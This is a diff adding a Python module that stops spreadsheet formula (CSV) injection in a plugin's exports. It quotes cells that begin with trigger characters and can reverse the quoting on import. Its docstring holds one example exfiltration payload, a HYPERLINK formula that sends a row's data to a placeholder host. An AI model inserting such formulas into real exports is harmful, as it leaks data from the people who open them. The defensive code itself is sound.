@@ -1,0 +1,48 @@
+"""Keeping spreadsheet formulas out of every export a plugin writes (OWASP "CSV injection").
+
+Excel, LibreOffice and Google Sheets run a cell as a formula when its text starts with `=`, `+`,
+`-`, `@`, a tab or a carriage return, so a resident named `=HYPERLINK("http://x/?d="&A2,"Klik")`
+would become a link that sends the row away from the admin's machine. Every exported cell that
+starts so gets a single quote in front, which the programs show as text. The rule is applied to
+every such value, numbers included: one rule is easier to trust than a judgement per column (a
+plugin whose sheet holds negative numbers writes them as numeric cells, which no program runs).
+
+Text that already starts with a quote gets one more, so the rule can be undone exactly:
+`unquote` (for an importer's every text cell) removes one quote only where `quote` put one, and
+an export comes back through an import with the values it had.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+
+QUOTE = "'"
+TRIGGERS = frozenset("=+-@\t\r")
+"""First characters that make a spreadsheet program evaluate a cell (OWASP's list)."""
+_QUOTED = TRIGGERS | {QUOTE}
+
+
+def quote(value: str) -> str:
+    """`value` as it may stand in a spreadsheet cell: never read as a formula."""
+    return QUOTE + value if value[:1] in _QUOTED and value else value
+
+
+def unquote(value: str) -> str:
+    """The value `quote` was given: one leading quote removed, where `quote` would add it."""
+    if value[:1] == QUOTE and value[1:2] in _QUOTED and len(value) > 1:
+        return value[1:]
+    return value
+
+
+def text_cells(sheet: WriteOnlyWorksheet, values: Iterable[str]) -> list[WriteOnlyCell]:
+    """An XLSX row of text cells (values already `quote`d): openpyxl stores text starting with `=`
+    as a formula unless told otherwise."""
+    cells = []
+    for value in values:
+        cell = WriteOnlyCell(sheet, value)
+        cell.data_type = "s"
+        cells.append(cell)
+    return cells
